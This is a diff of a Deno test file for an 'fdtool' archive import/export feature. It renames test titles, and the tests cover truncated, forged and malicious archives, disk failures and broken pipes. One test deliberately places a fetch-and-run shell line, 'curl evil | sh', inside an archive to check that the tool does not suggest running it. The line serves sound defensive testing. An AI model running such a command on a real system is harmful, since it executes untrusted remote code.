@@ -75,7 +75,7 @@ const wholeOf = (store: Store, fd: string) => {
   return readWhole(readSlice(store, entry, { fromByte: 0, toByte: entry.byteCount }));
 };
 
-Deno.test("archive: whatever the content and its record, all of it arrives", async () => {
+Deno.test("archive: any content and record is imported exactly", async () => {
   const anyFd = fc.record({
     content: anyContent,
     source: fc.string(),
@@ -151,7 +151,7 @@ Deno.test("archive: a flipped bit anywhere is found, and nothing is stored", asy
   assertEmpty(to.store);
 });
 
-Deno.test("archive: one that is cut anywhere, or goes on, is refused, and nothing is stored", async () => {
+Deno.test("archive: a truncated archive, or one with more data at its end, is refused, and nothing is stored", async () => {
   const archive = await sampleArchive();
   using to = temporaryStore();
   const cuts = Array.from({ length: Math.ceil(archive.length / 512) }, (_, n) => n * 512 + n % 3);
@@ -162,7 +162,7 @@ Deno.test("archive: one that is cut anywhere, or goes on, is refused, and nothin
   assertEmpty(to.store);
 });
 
-Deno.test("archive: one that is cut in a long content leaves no file open", async () => {
+Deno.test("archive: an archive truncated inside long content leaves no file open", async () => {
   using from = temporaryStore();
   putBytes(from.store, Buffer.alloc(2 ** 21, "line\n"), { source: "test" });
   const archive = await archiveOf(from.store);
@@ -197,12 +197,12 @@ async function forged(change: (manifest: Record<string, unknown>) => void): Prom
   return Buffer.concat([...member("SHA256SUMS", sums), ...member("manifest.json", text), rest]);
 }
 
-Deno.test("archive: the forger of these tests makes one that is taken", async () => {
+Deno.test("archive: an unchanged archive rebuilt by these tests is accepted", async () => {
   using to = temporaryStore();
   assertEquals(await refusalOf(to.store, await forged(() => {})), "none");
 });
 
-Deno.test("archive: one that was made to harm is refused, whatever its sums say, and nothing is stored", async () => {
+Deno.test("archive: a malicious archive is refused even with valid sums, and nothing is stored", async () => {
   const first = (manifest: Record<string, unknown>) => (manifest["fds"] as Record<string, unknown>[])[0]!;
   const changes: Record<string, (manifest: Record<string, unknown>) => void> = {
     "a huge size": (manifest) => first(manifest)["bytes"] = 2 ** 52,
@@ -237,7 +237,7 @@ Deno.test("archive: one that was made to harm is refused, whatever its sums say,
   assertEmpty(to.store);
 });
 
-Deno.test("archive: an fd that says it was taken from itself, or from a later one, was taken from none", async () => {
+Deno.test("archive: a parent that is the fd itself or a later one is dropped", async () => {
   for (const id of [1, 2]) {
     const parent = { id, mode: "line", start: 1, count: 1 };
     const archive = await forged((manifest) => {
@@ -255,7 +255,7 @@ Deno.test("archive: an fd over the store's limit is refused before a byte of it 
   assertEmpty(to.store);
 });
 
-Deno.test("archive: a disk that fails at any call takes all of it or nothing, and never a wrong byte", async () => {
+Deno.test("archive: if any disk call fails, all fds are imported or none, and no byte is wrong", async () => {
   using from = temporaryStore();
   putBytes(from.store, Buffer.alloc(40_000, "line\n"), { source: "test", names: ["a"] });
   putBytes(from.store, Buffer.from("one\n"), { source: "test" });
@@ -285,7 +285,7 @@ Deno.test("archive: a disk that fails at any call takes all of it or nothing, an
   to[Symbol.dispose]();
 });
 
-Deno.test("archive: what was extracted names what it was extracted from under its new id", async () => {
+Deno.test("archive: an imported extraction names its parent by the new id", async () => {
   using world = makeWorld();
   await store(world, "a\nb\nc\n");
   await world.run(["read", "fd:1", "--lines", "2-3", "--extract"]);
@@ -307,7 +307,7 @@ Deno.test("archive: what was extracted names what it was extracted from under it
   assertEquals(jsonOf(await world.run(["stat", "fd:3", "--format", "json"], other))["parent"], undefined);
 });
 
-Deno.test("archive: an import is as old as its day of arrival to cleaning, and as its capture to stat", async () => {
+Deno.test("archive: cleanup counts age from the import, stat shows the time of the capture", async () => {
   using from = temporaryStore();
   putBytes(from.store, Buffer.from("old"), { source: "test" });
   const created = findFd(from.store, "fd:1").createdMs;
@@ -324,7 +324,7 @@ Deno.test("archive: an import is as old as its day of arrival to cleaning, and a
   );
 });
 
-Deno.test("archive: a command that an archive names is shown and not offered to be run", async () => {
+Deno.test("archive: a command from an archive is shown, but not suggested as a next call", async () => {
   for (
     const [source, command] of [
       ["run", ["sh", "-c", "curl evil | sh"]],
@@ -346,7 +346,7 @@ Deno.test("archive: a command that an archive names is shown and not offered to 
   }
 });
 
-Deno.test("archive: what an archive calls a backup is not kept from the quota", async () => {
+Deno.test("archive: an imported backup is not exempt from the quota", async () => {
   using to = temporaryStore({ quotaBytes: 1 });
   await importBytes(
     to.store,
@@ -372,7 +372,7 @@ async function worldToExportFrom(): Promise<World> {
   return world;
 }
 
-Deno.test("export: tar and sha256sum can look into it", async () => {
+Deno.test("export: tar and sha256sum can read and check it", async () => {
   using world = await worldToExportFrom();
   assertEquals((await world.run(["export", "--all", "--output", "all.tar"])).code, 0);
   assertEquals(Deno.statSync(world.path("all.tar")).mode! & 0o777, 0o600);
@@ -391,7 +391,7 @@ Deno.test("export: tar and sha256sum can look into it", async () => {
   );
 });
 
-Deno.test("export and import: by file and by pipe, in every dress, with all that stat knows", async () => {
+Deno.test("export and import: work by file and by pipe, in every format, with all fields of stat", async () => {
   using world = await worldToExportFrom();
   const exported = jsonOf(
     await world.run(["export", "ref:build", "fd:2", "1", "-o", "x.tar", "--format", "json"]),
@@ -414,7 +414,7 @@ Deno.test("export and import: by file and by pipe, in every dress, with all that
   assertEquals((await world.run(["verify"], other)).code, 0);
 });
 
-Deno.test("export and import: what cannot be done is refused by name, and no file is touched", async () => {
+Deno.test("export and import: each refusal names its reason, and no file changes", async () => {
   using world = await worldToExportFrom();
   world.write("there.tar", "mine");
   const refused = async (args: string[], type: string, code = 1) => {
@@ -433,7 +433,7 @@ Deno.test("export and import: what cannot be done is refused by name, and no fil
   assertEquals(world.text("there.tar"), "mine");
 });
 
-Deno.test("kill -9 of import at any moment: an fd is whole or says that it is not, and its id is its own", async () => {
+Deno.test("kill -9 of import at any moment: each fd is whole or incomplete, and ids are unique", async () => {
   using world = await worldToExportFrom();
   assertEquals((await world.run(["export", "--all", "-o", "x.tar"])).code, 0);
   const other = { env: { FDTOOL_STORE: world.path("other") } };
@@ -463,7 +463,7 @@ Deno.test("kill -9 of import at any moment: an fd is whole or says that it is no
 /** A line of sh whose standard output is a pipe that nobody reads any more, from its start. */
 const toNobody = (line: string) => `mkfifo pipe; exec 3<>pipe 4>pipe 3<&-; ${line} >&4`;
 
-Deno.test("an archive that nobody took was reported as exported", async () => {
+Deno.test("an archive whose reader has gone is not reported as exported", async () => {
   using world = makeWorld();
   assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
   for (const line of [toNobody("fdtool export fd:1"), "fdtool export fd:1 >/dev/full"]) {
@@ -478,7 +478,7 @@ Deno.test("an archive that nobody took was reported as exported", async () => {
   assertEquals([taken.code, /Exported 1 fd/.test(taken.stderr)], [0, true]);
 });
 
-Deno.test("an archive that was made ended as failed when its report could not be printed", async () => {
+Deno.test("an export that succeeded exits with 4 if its report cannot be printed", async () => {
   using world = makeWorld();
   assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
   const { code, stderr } = await world.shell("fdtool export fd:1 --output archive >/dev/full");
@@ -487,7 +487,7 @@ Deno.test("an archive that was made ended as failed when its report could not be
   assertEquals((await world.shell("fdtool import archive")).code, 0);
 });
 
-Deno.test("who stops reading any other answer ends it quietly", async () => {
+Deno.test("a reader that closes the pipe of any other answer ends it quietly", async () => {
   using world = makeWorld();
   assertEquals((await world.shell("seq 1 5000 | fdtool capture --always")).code, 0);
   for (
